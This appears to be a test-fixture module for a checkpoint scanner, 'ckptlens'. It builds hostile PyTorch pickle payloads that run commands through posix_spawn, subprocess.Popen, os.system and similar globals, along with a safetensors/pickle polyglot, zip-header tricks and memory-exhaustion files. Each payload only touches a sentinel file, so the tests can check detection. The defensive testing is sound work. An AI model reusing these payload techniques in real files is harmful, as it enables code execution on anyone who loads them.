"""Crafted hostile checkpoints: the routes of issue 13 and a few of our own.

Each case is a file builder plus what ckptlens must answer: `safe`, `needs-trust` (with the
globals it names) or `refused` (exit 2, with a fragment of the one-line error). Payload cases
create a sentinel file when `torch.load(weights_only=False)` opens them (the tests prove each
one live); none of them may ever be called `safe`.
"""

from __future__ import annotations

import shutil
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import ckpt_factory as f

TOUCH = shutil.which("touch") or "/usr/bin/touch"


# --- pickle opcodes by hand ---------------------------------------------------------------


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def lst(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def dct(**items: bytes) -> bytes:
    return b"}(" + b"".join(text(k) + v for k, v in items.items()) + b"u"


def call(module: str, name: str, args: bytes) -> bytes:
    """GLOBAL (protocol 2, as torch.save writes) and REDUCE."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n" + args + b"R"


def call4(module: str, name: str, args: bytes) -> bytes:
    """STACK_GLOBAL (protocol 4), where `name` may be dotted: an attribute walk."""
    return short(module) + short(name) + b"\x93" + args + b"R"


# --- payloads: opcodes that create `sentinel` when the real unpickler runs them ------------

Payload = Callable[[Path], bytes]

REFUSED_PAYLOADS: dict[str, tuple[Payload, str]] = {
    # issue 13's routes: code execution through globals no deny-list had
    "posixpath.os.posix_spawn": (
        lambda s: call4(
            "posixpath", "os.posix_spawn", tup(text(TOUCH), lst(text("touch"), text(str(s))), b"}")
        ),
        "posixpath.os.posix_spawn",
    ),
    "imaplib.subprocess.Popen": (
        lambda s: call4("imaplib", "subprocess.Popen", tup(lst(text("touch"), text(str(s))))),
        "imaplib.subprocess.Popen",
    ),
    "imaplib.IMAP4_stream": (
        lambda s: call("imaplib", "IMAP4_stream", tup(text(f"touch {s}"))),
        "imaplib.IMAP4_stream",
    ),
    "uuid._get_command_stdout": (
        lambda s: call("uuid", "_get_command_stdout", tup(text("touch"), text(str(s)))),
        "uuid._get_command_stdout",
    ),
    "torch.utils.collect_env.run": (
        lambda s: call("torch.utils.collect_env", "run", tup(text(f"touch {s}"))),
        "torch.utils.collect_env.run",
    ),
    "torch.fx reduce_graph_module": (
        lambda s: call(
            "torch.fx.graph_module",
            "reduce_graph_module",
            tup(
                dct(code=text("def forward(self):\n    return None\n")),
                text(f"import os\nos.system('touch {s}')\n"),
            ),
        ),
        "torch.fx.graph_module.reduce_graph_module",
    ),
}

# Our own: globals that write files and are on no deny-list. Only the allow-list catches them.
TRUST_PAYLOADS: dict[str, tuple[Payload, list[str]]] = {
    "zipfile.ZipFile": (
        lambda s: call("zipfile", "ZipFile", tup(text(str(s)), text("w"))),
        ["zipfile.ZipFile"],
    ),
    "logging.FileHandler": (
        lambda s: call("logging", "FileHandler", tup(text(str(s)))),
        ["logging.FileHandler"],
    ),
    "bz2.BZ2File": (
        lambda s: call("bz2", "BZ2File", tup(text(str(s)), text("w"))),
        ["bz2.BZ2File"],
    ),
    "pathlib.Path.touch": (
        lambda s: call4("pathlib", "Path.touch", tup(call("pathlib", "PosixPath", tup(text(str(s)))))),
        ["pathlib.Path.touch", "pathlib.PosixPath"],
    ),
}


def payload_zip(dst: Path, payload: bytes) -> Path:
    """A torch.save-like archive whose data.pkl holds a real tensor and the payload (in a
    protocol-4 stream when it walks dotted names, which only protocol 4 resolves)."""
    pickle = f.state_dict_around(payload)
    if b"\x93" in payload:
        pickle = b"\x80\x04" + pickle[2:]
    return f.crafted_zip(dst, pickle, {"0": 16})


# --- containers read two ways ---------------------------------------------------------------


def duplicate_data_pkl(dst: Path, sentinel: Path) -> Path:
    """Two `archive/data.pkl`: the payload first (what torch reads), a clean one last."""
    evil = f.state_dict_around(TRUST_PAYLOADS["zipfile.ZipFile"][0](sentinel))
    clean = f.state_dict_around(b"N")
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        with zipfile.ZipFile(dst, "w") as out:
            out.writestr("archive/data.pkl", evil)
            out.writestr("archive/data.pkl", clean)
            out.writestr("archive/version", "3\n")
            out.writestr("archive/data/0", bytes(16))
    return dst


def renamed_local_header(dst: Path, sentinel: Path) -> Path:
    """The directory lists `archive/data.pkl`; the local header it points to says
    `archive/datA.pkl` (Python's zipfile refuses the mismatch, torch's reader does not)."""
    evil = f.state_dict_around(TRUST_PAYLOADS["zipfile.ZipFile"][0](sentinel))
    with zipfile.ZipFile(dst, "w") as out:
        out.writestr("archive/datA.pkl", evil)
        out.writestr("archive/version", "3\n")
        out.writestr("archive/data/0", bytes(16))
    data = bytearray(dst.read_bytes())
    at = data.rindex(b"archive/datA.pkl")  # the central directory's copy
    data[at : at + 16] = b"archive/data.pkl"
    dst.write_bytes(bytes(data))
    return dst


def stray_data_pkl(dst: Path, _sentinel: Path) -> Path:
    """A second data.pkl outside the archive's folder, where a lenient reader may look."""
    with zipfile.ZipFile(dst, "w") as out:
        out.writestr("archive/data.pkl", f.state_dict_around(b"N"))
        out.writestr("archive/version", "3\n")
        out.writestr("archive/data/0", bytes(16))
        out.writestr("other/data.pkl", f.state_dict_around(b"N"))
    return dst


def dotdot_member(dst: Path, _sentinel: Path) -> Path:
    with zipfile.ZipFile(dst, "w") as out:
        out.writestr("archive/data.pkl", f.state_dict_around(b"N"))
        out.writestr("archive/version", "3\n")
        out.writestr("archive/data/0", bytes(16))
        out.writestr("archive/../data.pkl", b"\x80\x02N.")
    return dst


def root_data_pkl(dst: Path, _sentinel: Path) -> Path:
    """data.pkl at the root of the zip: torch.load refuses it (no archive folder)."""
    with zipfile.ZipFile(dst, "w") as out:
        out.writestr("data.pkl", f.state_dict_around(b"N"))
        out.writestr("version", "3\n")
        out.writestr("data/0", bytes(16))
    return dst


def safetensors_pickle_polyglot(dst: Path, sentinel: Path, payload: bytes | None = None) -> Path:
    """A valid safetensors file whose first bytes are also a pickle torch.load would run.

    The 8-byte header length `55 ff 00 ...` reads as SHORT_BINSTRING of 255 bytes; from there
    `U~` chains inside a metadata string swallow the JSON header 126 bytes at a time, the last
    one reaching into the tensor data, where the payload and STOP sit."""
    length = 0xFF55
    if payload is None:
        payload = TRUST_PAYLOADS["zipfile.ZipFile"][0](sentinel)
    data_size = 512
    head = '{"__metadata__":{"pad":"'
    tail = f'"}},"t":{{"dtype":"U8","shape":[{data_size}],"data_offsets":[0,{data_size}]}}}}'
    # file offsets: the JSON starts at 8, the first chunk swallows bytes 2..256
    first_op = 2 + 255
    lead = first_op - 8 - len(head)
    body = length - len(head) - len(tail) - lead - 2  # room for the chunks and the last "U~"
    chunks, rest = divmod(body, 128)
    assert rest + len(tail) < 126
    pad = "a" * lead + ("U~" + "b" * 126) * chunks + "U~" + "c" * rest
    header = (head + pad + tail).encode()
    assert len(header) == length
    swallowed = 126 - rest - len(tail)  # data bytes inside the last chunk
    pickle_tail = b"\x80\x04" + payload + b"."  # PROTO may come mid-stream
    data = b"d" * swallowed + pickle_tail
    assert len(data) <= data_size
    data += b" " * (data_size - len(data))
    dst.write_bytes(struct.pack("<Q", length) + header + data)
    return dst


# --- the corpus ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path, Path], Path]  # (folder, sentinel) -> file
    outcome: str  # "safe" | "needs-trust" | "refused"
    detail: str | list[str] = ""  # refused: a fragment of the error; needs-trust: the globals
    live: bool = False  # torch.load(weights_only=False) creates the sentinel


def _payload_case(name: str, payload: Payload, outcome: str, detail: str | list[str]) -> Case:
    slug = name.replace(" ", "_").replace(".", "_")
    return Case(
        f"payload {name}",
        lambda folder, s: payload_zip(folder / f"{slug}.pt", payload(s)),
        outcome,
        detail,
        live=True,
    )


def _plain(folder: Path, _s: Path) -> Path:
    return f.crafted_zip(folder / "plain.pt", f.state_dict_around(b"K\x07"), {"0": 16})


def _protocol4(folder: Path, _s: Path) -> Path:
    import torch

    path = folder / "proto4.pt"
    torch.save({"w": torch.zeros(4)}, path, pickle_protocol=4)
    return path


def _int_opcode(folder: Path, _s: Path) -> Path:
    # hyper_parameters = {"n": I010}: 8 for CPython's pickle (strtol, base 0), not 10
    return f.crafted_zip(folder / "int.pt", f.state_dict_around(b"}(X\x01\x00\x00\x00nI010\nu"), {"0": 16})


def _huge_dims(folder: Path, _s: Path) -> Path:
    size = tup(*(b"\x8a\x09" + (1 << 64).to_bytes(9, "little") for _ in range(20)))
    ops = (
        b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\n"
        b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQK\x00"
        + size
        + tup(*(b"K\x00" for _ in range(20)))
        + b"\x89ccollections\nOrderedDict\n)RtR"
    )
    pickle = b"\x80\x02}(X\x01\x00\x00\x00w" + ops + b"u."
    return f.crafted_zip(folder / "huge_dims.pt", pickle, {"0": 16})


def _stride0_many_dims(folder: Path, _s: Path) -> Path:
    dims = 12_000
    size = b"(" + b"J\xff\xff\xff\x7f" * dims + b"t"
    ops = (
        b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\n"
        b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQK\x00"
        + size
        + b"(" + b"K\x00" * dims + b"t"
        + b"\x89ccollections\nOrderedDict\n)RtR"
    )
    pickle = b"\x80\x02}(X\x01\x00\x00\x00w" + ops + b"u."
    return f.crafted_zip(folder / "stride0.pt", pickle, {"0": 16})


def _st(folder: Path, name: str, header: dict[str, object], data: bytes) -> Path:
    path = folder / name
    path.write_bytes(f.safetensors_bytes(header, data))
    return path


def _st_plain(folder: Path, _s: Path) -> Path:
    return _st(folder, "plain.safetensors", {"t": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8))


def _st_unknown_dtype(folder: Path, _s: Path) -> Path:
    return _st(folder, "q4.safetensors", {"t": {"dtype": "Q4", "shape": [2], "data_offsets": [0, 1]}}, bytes(1))


def _st_trailing(folder: Path, _s: Path) -> Path:
    return _st(folder, "trailing.safetensors", {"t": {"dtype": "U8", "shape": [2], "data_offsets": [0, 2]}}, bytes(6))


def _st_many_ones(folder: Path, _s: Path) -> Path:
    shape = [1] * 200_000
    return _st(folder, "ones.safetensors", {"t": {"dtype": "U8", "shape": shape, "data_offsets": [0, 1]}}, bytes(1))


def _st_many_twos(folder: Path, _s: Path) -> Path:
    shape = [2] * 200_000
    return _st(folder, "twos.safetensors", {"t": {"dtype": "U8", "shape": shape, "data_offsets": [0, 1]}}, bytes(1))


def _st_int_metadata(folder: Path, _s: Path) -> Path:
    header = {"__metadata__": {"n": 1}, "t": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}
    return _st(folder, "meta.safetensors", header, bytes(1))


def _st_header_over_cap(folder: Path, _s: Path) -> Path:
    """A 17 MiB header (the safetensors library allows 100 MB): refused before it is parsed."""
    pad = "x" * (17 << 20)
    header = {"__metadata__": {"pad": pad}, "t": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}
    return _st(folder, "big_header.safetensors", header, bytes(1))


def _bytearray_copies(folder: Path, _s: Path) -> Path:
    """A 256 KiB blob memoised once, then `bytearray(blob)` 6,000 times (1.5 GB if built)."""
    blob = b"B" + struct.pack("<I", 256 * 1024) + bytes(256 * 1024) + b"q\x01"
    copy = b"cbuiltins\nbytearray\nh\x01\x85R0"
    pickle = b"\x80\x02" + blob + b"0" + copy * 6000 + b"N."
    return f.crafted_zip(folder / "copies.pt", pickle, {})


def _memo_dicts(folder: Path, _s: Path) -> Path:
    """3.3 M empty dicts, each memoised (2 bytes each in the file, ~160 in memory)."""
    pickle = b"\x80\x04]" + b"}\x940" * 3_300_000 + b"."
    return f.crafted_zip(folder / "memo.pt", pickle, {})


def _deflated_huge_member(folder: Path, _s: Path) -> Path:
    """A deflated data.pkl of 160 MiB at ~15x (under the ratio cap of 100x): the absolute
    cap refuses it before it is inflated (the issue's 1 GiB at 28x, scaled down)."""
    import random

    body = bytearray(160 << 20)
    body[::32] = random.Random(13).randbytes(len(body) // 32)
    path = folder / "big_member.pt"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        out.writestr("archive/data.pkl", b"\x80\x02B" + struct.pack("<I", len(body)) + bytes(body) + b".")
        out.writestr("archive/version", "3\n")
    return path


def _tar(folder: Path, _s: Path) -> Path:
    import tarfile

    path = folder / "old.tar.pt"
    with tarfile.open(path, "w") as tar:
        info = tarfile.TarInfo("storages")
        info.size = 0
        tar.addfile(info)
    return path


def _polyglot_refused_payload(folder: Path, s: Path) -> Path:
    payload = REFUSED_PAYLOADS["imaplib.subprocess.Popen"][0](s)
    return safetensors_pickle_polyglot(folder / "poly_refused.bin", s, payload)


CASES: list[Case] = [
    Case("plain torch zip", _plain, "safe"),
    Case("torch.save protocol 4", _protocol4, "needs-trust", []),
    Case("INT opcode I010", _int_opcode, "needs-trust", []),
    Case("duplicate data.pkl", lambda d, s: duplicate_data_pkl(d / "dup.pt", s), "refused", "appears twice", live=True),
    Case("local header renamed", lambda d, s: renamed_local_header(d / "renamed.pt", s), "refused", "disagrees with the central directory", live=True),
    Case("data.pkl outside the folder", lambda d, s: stray_data_pkl(d / "stray.pt", s), "refused", "outside the archive's folder"),
    Case("member with ..", lambda d, s: dotdot_member(d / "dotdot.pt", s), "refused", "outside the archive's folder"),
    Case("data.pkl at the zip root", lambda d, s: root_data_pkl(d / "root.pt", s), "refused", "outside any folder"),
    Case(
        "safetensors + pickle polyglot",
        lambda folder, s: safetensors_pickle_polyglot(folder / "poly.bin", s),
        "refused",
        "ambiguous file",
        live=True,
    ),
    Case("polyglot with a known payload", _polyglot_refused_payload, "refused", "imaplib.subprocess.Popen", live=True),
    Case("dims of 2**64", _huge_dims, "refused", "beyond what torch can address"),
    Case("stride 0, 12,000 huge dims", _stride0_many_dims, "refused", "more elements than torch can address"),
    Case("safetensors plain", _st_plain, "safe"),
    Case("safetensors dtype Q4", _st_unknown_dtype, "refused", "which torch cannot load"),
    Case("safetensors trailing bytes", _st_trailing, "refused", "after its last tensor"),
    Case("safetensors 200k dims of 1", _st_many_ones, "safe"),
    Case("safetensors 200k dims of 2", _st_many_twos, "refused", "more elements than torch can address"),
    Case("safetensors int metadata", _st_int_metadata, "refused", "__metadata__ must map names to strings"),
    Case("safetensors header of 17 MiB", _st_header_over_cap, "refused", "exceeds the 10 MiB limit"),
    Case("bytearray copies", _bytearray_copies, "refused", "MiB of objects"),
    Case("3.3M memoised dicts", _memo_dicts, "refused", "MiB of objects"),
    Case("160 MiB data.pkl at 15x", _deflated_huge_member, "refused", "more than the"),
    Case("tar checkpoint", _tar, "refused", "tar-based"),
    *(_payload_case(n, p, "refused", g) for n, (p, g) in REFUSED_PAYLOADS.items()),
    *(_payload_case(n, p, "needs-trust", g) for n, (p, g) in TRUST_PAYLOADS.items()),
]

CASE_IDS = [case.name for case in CASES]


def by_name(name: str) -> Case:
    return next(case for case in CASES if case.name == name)
